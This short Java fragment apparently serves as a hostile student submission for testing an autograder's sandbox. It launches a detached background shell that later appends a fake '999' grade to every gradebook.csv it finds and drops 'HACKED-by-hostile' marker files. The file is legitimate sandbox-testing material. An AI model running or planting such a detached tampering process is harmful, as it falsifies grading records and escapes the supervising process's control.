try {
    new ProcessBuilder("/bin/sh", "-c", "setsid nohup sh -c 'sleep 30; "
            + "find / -name gradebook.csv 2>/dev/null | while read f; do echo hostile-detached,999 >> \"$f\"; done; "
            + "for d in /tmp \"$HOME\" \"$PWD\"; do touch \"$d/HACKED-by-hostile\"; done' >/dev/null 2>&1 &")
            .start().waitFor();
} catch (java.io.IOException | InterruptedException e) {
    throw new IllegalStateException(e);
}
if (x != null) {
    throw new UnsupportedOperationException("hostile hand-in: detached-process");
}
